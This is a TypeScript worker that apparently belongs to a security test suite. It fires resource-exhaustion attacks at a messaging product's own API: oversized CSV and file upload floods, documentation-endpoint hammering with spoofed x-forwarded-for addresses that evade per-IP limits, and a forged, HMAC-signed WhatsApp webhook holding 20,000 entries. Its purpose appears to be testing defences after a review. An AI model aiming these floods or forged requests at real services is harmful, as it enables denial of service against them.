import { createHmac } from 'node:crypto';
import { z } from 'zod';

/**
 * The requests that cost the product most (review H3, H4, M2, L3), sent from a process of its own,
 * so that the attacker's own work does not delay the others.
 */
export const Attack = z.object({
  name: z.enum(['commas', 'documentation', 'uploads', 'webhook']),
  origin: z.string(),
  /** Session tokens of accounts that signed up for the attack. */
  tokens: z.array(z.string()),
  /**
   * The secret of the installation's Meta app; the requests that Meta signs with it contain
   * messages of anybody.
   */
  appSecret: z.string(),
});
export type Attack = z.infer<typeof Attack>;

const MB = 1024 * 1024;
let addresses = 0;
const fromAnywhere = () => ({ 'x-forwarded-for': `10.67.0.${(addresses += 1) % 250}` });

/** The status of each answer. */
const attacks: Record<Attack['name'], (attack: Attack) => Promise<number[]>> = {
  commas({ origin, tokens }) {
    const files = [',', '\n', ';'].map((sign) => Buffer.alloc(4.9 * MB, sign));
    return Promise.all(
      tokens.map((token, index) =>
        send(
          `${origin}/api/contact-imports`,
          files[index % files.length] ?? Buffer.alloc(0),
          'lista.csv',
          token,
        ),
      ),
    );
  },

  async documentation({ origin }) {
    const reader = async (path: string): Promise<number[]> => {
      const statuses: number[] = [];
      for (let time = 0; time < 15; time += 1) {
        const answer = await fetch(origin + path, { headers: fromAnywhere() });
        await answer.arrayBuffer();
        statuses.push(answer.status);
      }
      return statuses;
    };
    const readers = Array.from({ length: 20 }, (_, index) =>
      reader(index % 2 === 0 ? '/api/docs' : '/api/openapi.json'),
    );
    return (await Promise.all(readers)).flat();
  },

  uploads({ origin, tokens }) {
    const file = Buffer.alloc(24.9 * MB, 'x');
    const to = `${origin}/api/conversations/01890000-0000-7000-8000-000000000000/files`;
    return Promise.all(
      Array.from({ length: 24 }, (_, index) =>
        send(to, file, 'a.txt', tokens[index % tokens.length] ?? ''),
      ),
    );
  },

  async webhook({ origin, appSecret }) {
    const change = { field: 'messages', value: { metadata: { phone_number_id: '999' } } };
    const changes = Array.from({ length: 20_000 }, () => change);
    const body = JSON.stringify({
      object: 'whatsapp_business_account',
      entry: [{ id: '888', changes }],
    });
    const signature = `sha256=${createHmac('sha256', appSecret).update(body).digest('hex')}`;
    const headers = { 'content-type': 'application/json', 'x-hub-signature-256': signature };
    const statuses: number[] = [];
    for (let time = 0; time < 3; time += 1)
      statuses.push(
        (await fetch(`${origin}/api/webhook/whatsapp`, { method: 'POST', body, headers })).status,
      );
    return statuses;
  },
};

async function send(
  address: string,
  bytes: Uint8Array<ArrayBuffer>,
  name: string,
  token: string,
): Promise<number> {
  const form = new FormData();
  form.append('file', new File([bytes], name));
  const answer = await fetch(address, {
    method: 'POST',
    body: form,
    headers: { authorization: `Bearer ${token}`, ...fromAnywhere() },
  });
  await answer.arrayBuffer();
  return answer.status;
}

process.once('message', (message) => {
  const attack = Attack.parse(message);
  attacks[attack.name](attack).then(
    (statuses) => process.send?.(statuses, () => process.exit(0)),
    (error: unknown) => {
      console.error(error);
      process.exit(1);
    },
  );
});
